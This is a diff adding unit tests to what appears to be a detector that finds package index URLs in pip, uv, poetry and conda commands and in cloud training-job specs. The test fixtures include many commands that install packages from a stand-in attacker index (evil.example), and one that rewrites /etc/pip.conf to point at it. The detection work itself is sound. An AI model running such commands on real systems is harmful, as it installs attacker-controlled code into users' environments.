@@ -127,6 +127,48 @@ describe('package sources of env and commands', () => {
   });
 });
 
+describe('package sources: how else a script points pip, uv, poetry or conda at an index', () => {
+  const sh = (script: string) => packageSourcesOfCommand(['sh', '-c', script]);
+  it('exec form, quoting, continuations, attached values, prefixes, name@url, env assignments, pip config, other installers', () => {
+    expect(packageSourcesOfCommand(['pip', 'install', '-i', EVIL, 'x'])).toEqual([EVIL]);
+    expect(packageSourcesOfCommand(['python', '-m', 'pip', 'install', '--index-url', EVIL, 'x'])).toEqual([EVIL]);
+    for (const script of [
+      `pip install --index-url="${EVIL}" x`,
+      `pip install -i${EVIL} x`,
+      `python3 -mpip install --index-url ${EVIL} x`,
+      `/opt/venv/bin/pip3.11 install --index-url ${EVIL} x`,
+      `pip --no-cache-dir install --index-url ${EVIL} x`,
+      `python -m 'pip' install --index-url ${EVIL} x`,
+      `pip install \\
+  --index-url ${EVIL} x`,
+      `pip install 'x; python_version>"0"' --index-url ${EVIL}`,
+      `pip install --extra-index=${EVIL} x`,
+      `PIP_INDEX_URL=${EVIL} pip install x`,
+      `export PIP_EXTRA_INDEX_URL=${EVIL}; pip install x`,
+      `pip config set global.index-url ${EVIL} && pip install x`,
+      `printf '[global]\\nindex-url = ${EVIL}\\n' > /etc/pip.conf && pip install x`,
+      `uv add --index ${EVIL} x`,
+      `uv run --python 3.11 --index ${EVIL} train.py`,
+      `poetry source add evil ${EVIL} && poetry add x`,
+      `conda install -c ${EVIL} x`,
+    ]) expect(sh(script), script).toEqual([EVIL]);
+    expect(sh('pip install "x@https://evil.example/x.whl"')).toEqual(['https://evil.example/x.whl']);
+    expect(sh('pip install --requirement=https://evil.example/r.txt')).toEqual(['https://evil.example/r.txt']);
+  });
+
+  it('reads no proxy, trusted host, local path, named channel or another command\'s URL', () => {
+    expect(sh(`uv run --with git+https://evil.example/h.git serve.py --tracking https://mlflow.corp.example && uvx --from ${EVIL} tool https://x.example/data && poetry run python train.py --data https://data.example/d`)).toEqual(['git+https://evil.example/h.git', EVIL]);
+    expect(sh('pip install --proxy http://proxy:3128 --trusted-host evil.example x && pip config set global.proxy http://p:1 && conda install -c conda-forge y && pip install -e . -r requirements.txt && rm -f https://x.example/a')).toEqual([]);
+  });
+
+  it('a Vertex container running pip in exec form, its index in args, alerts', () => {
+    const out = vertexConnector.normalize!(auditEntry({ method: `${V1}JobService.CreateCustomJob`, resourceName: LOC, request: { parent: LOC, customJob: { displayName: 'train', jobSpec: { network: 'projects/123456/global/networks/vpc', workerPoolSpecs: [{ containerSpec: { imageUri: `us-docker.pkg.dev/ml-prod-123/repo/trainer@sha256:${'e'.repeat(64)}`, command: ['pip'], args: ['install', '--index-url', EVIL, 'helpers'] } }] } } } }), vertexCtx);
+    const ev = NormalizedEvent.parse(out.events[0]);
+    expect(ev.ml?.job?.package_sources).toEqual([EVIL]);
+    expect(alertsOf([ev]).map((a) => a.details?.package_sources)).toEqual([[EVIL]]);
+  });
+});
+
 describe('Kubernetes audit: training operator jobs and Argo workflows', () => {
   const PIN = `gcr.io/proj/trainer@sha256:${'b'.repeat(64)}`;
   const write = (resource: string, apiGroup: string, requestObject: unknown) => ({
